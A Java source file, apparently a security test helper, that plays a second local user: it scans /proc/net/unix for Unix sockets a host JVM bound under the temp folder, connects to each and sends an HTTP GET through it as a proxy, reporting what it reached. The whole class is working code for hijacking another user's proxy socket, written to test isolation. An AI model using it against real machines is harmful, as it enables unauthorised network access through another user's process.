package dev.airlock.security;

import java.io.IOException;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Another local user (run as uid 65534 by {@link NonRootJvm}): finds the Unix sockets a host JVM bound under the
 * temp folder in {@code /proc/net/unix}, which every user can read, and asks each, as an HTTP proxy, for a page.
 * Arguments: the part of a path that marks the host's sockets, and the URL to ask for. Prints what it reached.
 */
public final class UnixSocketThief {
  private UnixSocketThief() {
  }

  public static void main(String[] args) throws IOException {
    String mark = args[0];
    String url = args[1];
    for (String line : Files.readAllLines(Path.of("/proc/net/unix"))) {
      int slash = line.indexOf(" /");
      if (slash < 0 || !line.contains(mark)) {
        continue;
      }
      String socket = line.substring(slash + 1).strip();
      System.out.println("FOUND " + socket);
      try (SocketChannel channel = SocketChannel.open(StandardProtocolFamily.UNIX)) {
        channel.connect(UnixDomainSocketAddress.of(socket));
        System.out.println("CONNECTED " + socket);
        String host = url.replaceFirst("^http://", "").replaceFirst("/.*$", "");
        channel.write(ByteBuffer.wrap(("GET " + url + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
            .getBytes(StandardCharsets.US_ASCII)));
        ByteBuffer answer = ByteBuffer.allocate(256);
        channel.read(answer);
        System.out.println("ANSWER " + new String(answer.array(), 0, answer.position(), StandardCharsets.US_ASCII)
            .lines().findFirst().orElse(""));
      } catch (IOException e) {
        System.out.println("REFUSED " + socket + ": " + e.getMessage());
      }
    }
  }
}
